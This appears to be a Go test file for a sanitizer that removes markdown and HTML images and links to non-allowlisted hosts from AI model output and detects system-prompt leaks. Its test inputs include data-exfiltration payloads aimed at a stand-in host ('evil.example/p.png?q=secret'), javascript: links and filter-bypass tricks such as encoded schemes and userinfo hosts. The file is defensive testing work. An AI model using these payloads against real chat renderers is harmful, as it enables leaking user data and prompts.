package sanitize

import (
	"strings"
	"testing"
)

func linksOnly(t testing.TB, hosts ...string) *Sanitizer {
	t.Helper()
	s, err := New(Policy{Links: true, AllowedHosts: hosts})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestLinksAndImages(t *testing.T) {
	s := linksOnly(t, "docs.example.com", "*.cdn.example.com")
	for _, tc := range []struct{ name, in, want string }{
		{"plain text", "Hello, world. 2 < 3 and [1] is a citation.", "Hello, world. 2 < 3 and [1] is a citation."},
		{"image to an outside host", "See ![the chart](https://evil.example/p.png?q=secret) here.", "See the chart \\[image removed\\] here."},
		{"image without alt", "![](https://evil.example/x.png)", "\\[image removed\\]"},
		{"image on an allowed host", "![logo](https://docs.example.com/logo.png)", "![logo](https://docs.example.com/logo.png)"},
		{"wildcard host", "![a](https://img.cdn.example.com/a.png)", "![a](https://img.cdn.example.com/a.png)"},
		{"wildcard does not match the apex", "![a](https://cdn.example.com/a.png)", "a \\[image removed\\]"},
		{"link to an outside host", "Read [the docs](http://evil.example/?d=1).", "Read [the docs \\[link removed\\]](#link-removed)."},
		{"link allowed", "Read [the docs](https://docs.example.com/a).", "Read [the docs](https://docs.example.com/a)."},
		{"relative link stays", "[home](/index.html) and [top](#top)", "[home](/index.html) and [top](#top)"},
		{"title", `[x](https://evil.example "a title")`, `[x \[link removed\]](#link-removed)`},
		{"angle destination", "[x](<https://evil.example/a b>)", `[x \[link removed\]](#link-removed)`},
		{"space before the parenthesis", "[x] (https://evil.example)", `[x \[link removed\]](#link-removed)`},
		{"not a link", "[x] means x; (y) means y", "[x] means x; (y) means y"},
		{"nested badge", "[![build](https://evil.example/b.svg)](https://docs.example.com/ci)", "[build \\[image removed\\]](https://docs.example.com/ci)"},
		{"badge in a refused link", "[![b](https://docs.example.com/b.svg)](https://evil.example)", `[![b](https://docs.example.com/b.svg) \[link removed\]](#link-removed)`},
		{"javascript", "[click](javascript:alert(1))", `[click \[link removed\]](#link-removed)`},
		{"data URI", "![x](data:image/png;base64,AAAA)", "x \\[image removed\\]"},
		{"protocol-relative", "![x](//evil.example/a.png)", "x \\[image removed\\]"},
		{"userinfo trick", "![x](https://docs.example.com@evil.example/a.png)", "x \\[image removed\\]"},
		{"backslash trick", `![x](https:\\evil.example\a.png)`, "x \\[image removed\\]"},
		{"entity in the scheme", "![x](https&#58;//evil.example/a.png)", "x \\[image removed\\]"},
		{"tab in the scheme", "![x](ht\ttps://evil.example/a.png)", "x \\[image removed\\]"},
		{"upper case", "![x](HTTPS://EVIL.EXAMPLE/a.png)", "x \\[image removed\\]"},
		{"allowed host upper case", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)"},
		{"percent-encoded host", "![x](https://%65vil.example/a.png)", "x \\[image removed\\]"},
		{"autolink", "go to <https://evil.example/x> now", "go to \\[link removed\\] now"},
		{"autolink allowed", "<https://docs.example.com/x>", "<https://docs.example.com/x>"},
		{"email autolink kept", "<me@example.com>", "<me@example.com>"},
		{"reference definition", "![chart][c]\n\n[c]: https://evil.example/c.png?d=1\n", "![chart][c]\n\n[c]: #link-removed\n"},
		{"reference definition allowed", "[c]: https://docs.example.com/c\n", "[c]: https://docs.example.com/c\n"},
		{"html img", `<img src="https://evil.example/p.png?q=1" alt="pixel">`, "pixel \\[image removed\\]"},
		{"html img allowed", `<img src="https://docs.example.com/p.png">`, `<img src="https://docs.example.com/p.png">`},
		{"html link", `<a href='https://evil.example'>x</a>`, "\\[link removed\\]x</a>"},
		{"html srcset", `<img srcset="https://docs.example.com/a.png 1x, https://evil.example/b.png 2x">`, "\\[image removed\\]"},
		{"html attribute named by an equals sign", `<img src=//evil.example/p.png?q=1 =">`, "\\[image removed\\]"},
		{"autolink in what is not a tag", `<img <https://evil.example/x.png> <b x=<https://evil.example/>`, "\\[link removed\\] \\[link removed\\]"},
		{"html link with a '<' in its unquoted URL", `<a href=https://evil.example/<x>`, "\\[link removed\\]"},
		{"fenced code kept", "```md\n![x](https://evil.example/a.png)\n```\n![y](https://evil.example/b.png)", "```md\n![x](https://evil.example/a.png)\n```\ny \\[image removed\\]"},
		{"tilde fence, unclosed", "~~~\n![x](https://evil.example/a.png)", "~~~\n![x](https://evil.example/a.png)"},
		{"escaped bracket", `\[x](https://evil.example)`, `\[x](https://evil.example)`},
		{"unclosed bracket", "[x and more text", "[x and more text"},
		{"no link across a blank line", "[x\n\n](https://evil.example)", "[x\n\n](https://evil.example)"},
		{"alt with brackets is escaped", "![a [b] (c)](https://evil.example)", `a \[b\] \(c\) \[image removed\]`},
		{"parentheses in the destination", "[w](https://evil.example/a_(b)) after", `[w \[link removed\]](#link-removed) after`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := s.Text(tc.in, "")
			if got != tc.want {
				t.Errorf("Text(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestFindingsCount(t *testing.T) {
	s := linksOnly(t)
	_, f := s.Text("![a](https://x.example/a.png) [b](https://x.example) ![c](/ok.png) <https://y.example>", "")
	if f.Images != 1 || f.Links != 2 || f.Leak {
		t.Errorf("findings %+v, want 1 image and 2 links", f)
	}
}

func TestLongLinkTextIsEscapedNotTrusted(t *testing.T) {
	s := linksOnly(t)
	in := "[" + strings.Repeat("a", maxText+10) + "](https://evil.example)"
	got, _ := s.Text(in, "")
	if !strings.HasPrefix(got, `\[`) {
		t.Errorf("a link text longer than the bound must have its bracket escaped, got %q…", got[:20])
	}
	if hasRefusedLink(got, &s.hosts) {
		t.Errorf("a refused link survived: %q…", got[len(got)-40:])
	}
}

const systemPrompt = "You are the support assistant of Northwind Bank. Never mention the internal escalation code RED-7741 and " +
	"never discuss interest rates for commercial loans under any circumstances whatsoever."

func TestLeakFlagged(t *testing.T) {
	s, _ := New(Policy{Leak: LeakFlag})
	answer := "Sure! My instructions say: you are the support assistant of Northwind Bank. Never mention the internal escalation code RED-7741."
	got, f := s.Text(answer, systemPrompt)
	if !f.Leak || got != answer {
		t.Errorf("flag: leak %v, text changed %v", f.Leak, got != answer)
	}
	if _, f := s.Text("Our support assistant can help with Northwind Bank accounts, cards and transfers.", systemPrompt); f.Leak {
		t.Error("a few shared words are not a leak")
	}
}

func TestLeakCut(t *testing.T) {
	s, _ := New(Policy{Leak: LeakCut})
	answer := "Sure! Here it is: **You are the support assistant** of Northwind\nBank. Never mention the internal escalation code RED-7741 and more."
	got, f := s.Text(answer, systemPrompt)
	if !f.Leak {
		t.Fatal("leak not found")
	}
	// The twelfth word of the run is "internal": the answer ends before it.
	if want := "Sure! Here it is: **You are the support assistant** of Northwind\nBank. Never mention the "; got != want {
		t.Errorf("cut text %q, want %q", got, want)
	}
}

func TestShortSystemPromptIsNotWatched(t *testing.T) {
	s, _ := New(Policy{Leak: LeakCut})
	if _, f := s.Text("You are a helpful assistant.", "You are a helpful assistant."); f.Leak {
		t.Error("a system prompt shorter than LeakWords words cannot be told apart from a common phrase")
	}
}

func TestBadPolicy(t *testing.T) {
	for _, p := range []Policy{
		{AllowedHosts: []string{"https://docs.example.com"}},
		{AllowedHosts: []string{"docs.example.com/path"}},
		{AllowedHosts: []string{"a.*.example.com"}},
		{AllowedHosts: []string{""}},
		{Leak: "block"},
	} {
		if _, err := New(p); err == nil {
			t.Errorf("New(%+v) accepted a bad policy", p)
		}
	}
}

func TestInactiveStreamPassesThrough(t *testing.T) {
	s, _ := New(Policy{})
	if s.Active() {
		t.Fatal("the zero policy is active")
	}
	st := s.NewStream("")
	if got := st.Write("![x](https://evil.example)"); got != "![x](https://evil.example)" {
		t.Errorf("got %q", got)
	}
}

// TestStreamHoldsOnlyWhatCouldBeALink checks that text with no '[', '!'
// or '<' goes out as soon as it comes.
func TestStreamHoldsOnlyWhatCouldBeALink(t *testing.T) {
	st := linksOnly(t).NewStream("")
	if got := st.Write("Hello there, "); got != "Hello there, " {
		t.Errorf("plain text held: %q", got)
	}
	if got := st.Write("see ![a"); got != "see " {
		t.Errorf("want the text before the image, got %q", got)
	}
	if got := st.Write("lt](https://evil.example/a.png) and more"); got != "alt \\[image removed\\] and more" {
		t.Errorf("got %q", got)
	}
}
